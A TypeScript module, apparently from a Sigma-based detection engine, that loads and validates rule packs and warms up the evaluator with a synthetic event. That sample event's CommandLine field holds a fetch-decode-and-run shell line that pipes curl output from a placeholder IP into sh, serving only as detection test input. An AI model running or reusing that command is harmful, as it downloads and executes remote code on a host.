import { PLATFORMS, type RulePackHeader, type RulePackReference } from '@yagura/protocol';
import { readPackFile } from '../core/detection/pack/pack-file.ts';
import { createEvaluatorOf, rulesOf, type SigmaEvaluator, type SigmaEvaluatorOptions } from '../core/index.ts';

export type LoadedPack =
  | { readonly ok: true; readonly header: RulePackHeader; readonly evaluator: SigmaEvaluator }
  | { readonly ok: false; readonly code: PackFault; readonly message: string };

/** Why an engine did not take a pack; the detail of `pack_rejected`. */
export type PackFault =
  | 'pack_not_utf8'
  | 'pack_invalid'
  | 'pack_version_unknown'
  | 'pack_too_large'
  | 'pack_mislabelled'
  | 'pack_over_budget';

/**
 * Makes an evaluator of a pack file whose hash was checked. Rules for other systems are left out: their events
 * never come here, and a full pack has ten of them for one that can fire.
 */
export function loadPack(
  bytes: Uint8Array,
  reference: Pick<RulePackReference, 'name' | 'version'>,
  platform: (typeof PLATFORMS)[number],
  options: SigmaEvaluatorOptions = {},
): LoadedPack {
  let text: string;
  try {
    text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  } catch {
    return { ok: false, code: 'pack_not_utf8', message: 'the pack is not valid UTF-8' };
  }
  const read = readPackFile(text);
  if (!read.ok) return read;
  const { header, rules: loaded } = read;
  if (header.name !== reference.name || header.version !== reference.version) {
    const message = `the pack calls itself ${header.name} ${header.version}`;
    return { ok: false, code: 'pack_mislabelled', message };
  }
  return { ok: true, header, evaluator: createEvaluatorOf(rulesOf(loaded, platform), options) };
}

/**
 * Compiles the rules of every log source now, which otherwise happens at its first event: what a pack costs
 * is known before it is in force.
 */
export function warmUp(evaluator: SigmaEvaluator, platform: (typeof PLATFORMS)[number]): void {
  const seen = new Set<string>();
  for (const { logsource } of evaluator.rules) {
    const key = `${logsource.category ?? ''}\n${logsource.service ?? ''}`;
    if (seen.has(key)) continue;
    seen.add(key);
    evaluator.evaluate({ logsource: { ...logsource, product: platform }, fields: SAMPLE });
  }
}

/** Long enough to make every kind of matcher work. */
const SAMPLE = {
  Image: `/usr/bin/${'x'.repeat(200)}`,
  CommandLine: 'sh -c "curl http://192.0.2.1/a | base64 -d | sh" '.repeat(100),
  ParentImage: '/usr/sbin/sshd',
  TargetFilename: `/tmp/${'y'.repeat(500)}`,
  message: 'z '.repeat(2_000),
  User: 'root',
  DestinationIp: '192.0.2.1',
  DestinationPort: 443,
};
